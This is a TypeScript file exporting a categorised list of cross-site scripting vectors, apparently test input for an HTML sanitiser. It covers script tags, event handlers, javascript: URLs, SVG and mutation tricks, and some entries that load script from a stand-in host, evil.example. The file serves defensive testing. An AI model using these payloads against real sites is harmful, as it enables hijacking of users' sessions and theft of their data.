const X = 'alert(1)';

/** Ways to get a script run that have worked somewhere, by kind. */
export const XSS_VECTORS: Record<string, readonly string[]> = {
  'scripts': [
    `<script>${X}</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script/x>${X}</script >`, `<scr<script>ipt>${X}</scr</script>ipt>`,
    `<script>${X}`, `<<script>${X}//<</script>`, `<script\n>${X}</script\n>`, `<script>a</script<b>${X}</script>`, `<scr\0ipt>${X}</scr\0ipt>`,
    `<script type=module>import('//evil.example')</script>`, `<noscript><script>${X}</script></noscript>`, `<sCrIpT>${X}</ScRiPt>`,
  ],
  'event handlers': [
    `<img src=x onerror=${X}>`, `<img src="x" ONERROR="${X}">`, `<b onmouseover=${X}>x</b>`, `<b/onclick=${X}>x</b>`, `<p\tonclick\n=\n"${X}">x</p>`,
    `<a href="/" onfocus=${X} autofocus tabindex=1>x</a>`, `<body onload=${X}>`, `<video><source onerror=${X}></video>`, `<audio src=x onerror=${X}>`,
    `<details open ontoggle=${X}>x</details>`, `<input autofocus onfocus=${X}>`, `<marquee onstart=${X}>x</marquee>`, `<br onclick=${X}>`, `<li onpointerenter=${X}>x`,
    `<q cite="javascript:${X}" onclick=${X}>x</q>`, `<code style="animation:x" onanimationend=${X}>x</code>`, `<i \u000C onclick=${X}>x</i>`,
  ],
  'addresses': [
    `<a href="javascript:${X}">x</a>`, `<a href=" javascript:${X}">x</a>`, `<a href="JaVaScRiPt:${X}">x</a>`, `<a href="java\tscript:${X}">x</a>`,
    `<a href="java\nscript:${X}">x</a>`, `<a href="\x01javascript:${X}">x</a>`, `<a href="java\0script:${X}">x</a>`, `<a href="javascript&colon;${X}">x</a>`,
    `<a href="&#106;&#97;vascript:${X}">x</a>`, `<a href="&#x6A&#x61;vascript:${X}">x</a>`, `<a href="java&Tab;script&NewLine;:${X}">x</a>`,
    `<a href="data:text/html,<script>${X}</script>">x</a>`, `<a href="DATA:text/html;base64,PHNjcmlwdD4=">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`,
    `<a href="//evil.example">x</a>`, `<a href="\\\\evil.example">x</a>`, `<a href="/\\evil.example">x</a>`, `<a href="/\t/evil.example">x</a>`,
    `<a href="&#x2F;&#x2F;evil.example">x</a>`, `<a href="blob:https://x/1">x</a>`, `<a href="file:///etc/passwd">x</a>`, `<a href="feed:javascript:${X}">x</a>`,
    `<a href="view-source:x">x</a>`, `<a href="jar:x!/">x</a>`, `<a href="intent://x#Intent;end">x</a>`, `<a href="java<!-- -->script:${X}">x</a>`,
    `<a href="java&#x202E;script:${X}">x</a>`, `<a href="&#8203;javascript:${X}">x</a>`, `<a href="\u00A0javascript:${X}">x</a>`, `<a href='javascript:"${X}"'>x</a>`,
    `<a href=javascript:${X}>x</a>`, `<a xlink:href="javascript:${X}">x</a>`, `<a href="/" ping="//evil.example">x</a>`, `<a href="x" target=_blank download>x</a>`,
    `<a rel="opener" href="https://example.org">x</a>`, `<a href="https://a.example" href="javascript:${X}">x</a>`, `<base href="javascript:${X}//"><a href="x">x</a>`,
  ],
  'broken attributes': [
    `<a href="x" title="><img src=x onerror=${X}>">x</a>`, `<a href='"><script>${X}</script>'>x</a>`, `<a href="x"onclick="${X}">x</a>`, `<a href=\`x\` onclick=\`${X}\`>x</a>`,
    `<a "onclick=${X}">x</a>`, `<a href="x" "=">${X}">x</a>`, `<a =onclick=${X} href=x>x</a>`, `<b x="<!--" onclick=${X}>x</b>`, `<a href="&quot; onclick=&quot;${X}">x</a>`,
    `<a href="x\u2028" onclick=${X}>x</a>`, `<a href="x&quot;&gt;&lt;script&gt;${X}">x</a>`, `<img """><script>${X}</script>">`, `<a href="a&b=c&amp;d=<e>">x</a>`,
  ],
  'svg and math': [
    `<svg onload=${X}>`, `<svg><script>${X}</script></svg>`, `<svg><a xlink:href="javascript:${X}"><text>x</text></a></svg>`, `<svg><style><img src=x onerror=${X}></style></svg>`,
    `<svg><animate attributeName=href values=javascript:${X} /></svg>`, `<svg><set onbegin=${X}>`, `<svg><foreignObject><iframe srcdoc="<script>${X}</script>"></foreignObject></svg>`,
    `<math><mi xlink:href="data:x,<script>${X}</script>">x</mi></math>`, `<math href="javascript:${X}">x</math>`, `<svg><use href="data:image/svg+xml,x#x"></use></svg>`,
    `<svg><p><style><!--</style><img src=x onerror=${X}>--></style></p></svg>`, `<svg><![CDATA[><img src=x onerror=${X}>]]></svg>`, `<svg><title><b onclick=${X}>x</b></title></svg>`,
  ],
  'mutations': [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${X}&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${X}>`,
    `<noscript><p title="</noscript><img src=x onerror=${X}>">`, `<xmp><p title="</xmp><img src=x onerror=${X}>">`, `<textarea><p title="</textarea><img src=x onerror=${X}>">`,
    `<title><p title="</title><img src=x onerror=${X}>">`, `<style><p title="</style><img src=x onerror=${X}>">`, `<iframe><p title="</iframe><img src=x onerror=${X}>">`,
    `<noembed><p title="</noembed><img src=x onerror=${X}>">`, `<noframes><p title="</noframes><img src=x onerror=${X}>">`, `<plaintext><b onclick=${X}>x`, `<template><script>${X}</script></template>`,
    `<template><b onclick=${X}>x</b></template>`, `<select><option><style></option></select><b><img src=x onerror=${X}></style></b>`, `<table><tr><td><a href=x><table><a href=y onclick=${X}>x`,
    `<xmp>&lt;img src=x onerror=${X}&gt;</xmp>`, `<textarea/><img src=x onerror=${X}>`, `<svg></p><style><a title="</style><img src=x onerror=${X}>">`, `<a href=x><b><a href=y><i></a></b>x`,
    `<listing>&lt;img src=x onerror=${X}&gt;</listing>`, `<p><b><p><i></b></p></i>x`, `<ul><li><p><ol></li></ul>x</p>`, `<b><blockquote></b>x</blockquote>`, `<option><p>x</option></p>`,
  ],
  'frames, objects, forms and styles': [
    `<iframe src="javascript:${X}"></iframe>`, `<iframe srcdoc="&lt;script&gt;${X}&lt;/script&gt;"></iframe>`, `<iframe><script>${X}</script></iframe>`, `<object data="javascript:${X}"></object>`,
    `<embed src="javascript:${X}">`, `<applet code=x>x</applet>`, `<frameset><frame src="javascript:${X}"></frameset>`, `<form action="javascript:${X}"><button>x</button></form>`,
    `<button formaction="javascript:${X}">x</button>`, `<isindex action="javascript:${X}">`, `<meta http-equiv=refresh content="0;url=javascript:${X}">`, `<link rel=stylesheet href="//evil.example/x.css">`,
    `<style>@import '//evil.example/x.css';</style>`, `<b style="background:url(javascript:${X})">x</b>`, `<p class="x" id="main" name="body" slot="x" is="x-y">x</p>`, `<portal src="//evil.example">`,
    `<input type=image src=x onerror=${X}>`, `<keygen autofocus onfocus=${X}>`, `<dialog open onclose=${X}>x</dialog>`, `<img src=x:x srcset="x onerror=${X}">`, `<picture><source srcset=x></picture>`,
  ],
  'comments and declarations': [
    `<!--<img src="--><img src=x onerror=${X}>">`, `<!-- --!><img src=x onerror=${X}> -->`, `<!--><img src=x onerror=${X}>-->`, `<!---><img src=x onerror=${X}>-->`, `<!-- unclosed <b>`,
    `<![CDATA[<img src=x onerror=${X}>]]>`, `<!DOCTYPE html [<!ENTITY x "<script>${X}</script>">]>&x;`, `<?xml version="1.0"?><?php echo '<b onclick=${X}>'; ?>`, `<!--[if IE]><script>${X}</script><![endif]-->`,
    `<? foo="><script>${X}</script>">`, `<! foo="><script>${X}</script>">`, `</ foo="><script>${X}</script>">`, `<%<!--'%><script>${X}</script -->`,
  ],
  'unclosed and strange': [
    `<img src=x onerror=${X}`, `<a href="https://example.org`, `<a href="x" `, `<b`, `<`, `</`, `<b <i`, `<b></i></b></b></p></ul>`, `</p></div></body></html><script>${X}`, `<\u200Bscript>${X}</script>`,
    `\uFF1Cscript\uFF1E${X}`, `+ADw-script+AD4-${X}`, `&lt;script&gt;${X}&lt;/script&gt;`, `&amp;lt;script&amp;gt;${X}`, `&#60;script&#62;${X}`, `&ltscript&gt${X}`, `<\0b onclick=${X}>x</b>`, `<b\0 onclick=${X}>x</b>`,
    `<custom-element onclick=${X}>x</custom-element>`, `<a:b href="x">x</a:b>`, `<p/><b/>x`, `<li><li><li>x`, `<br/></br><br x=y>`, `<blink>x</blink>`, `<p>x<p>y<ul>z</p></ul>`, `<a>x</a><a href>y</a><a href="">z</a>`,
  ],
}; // biome-ignore format: a heap
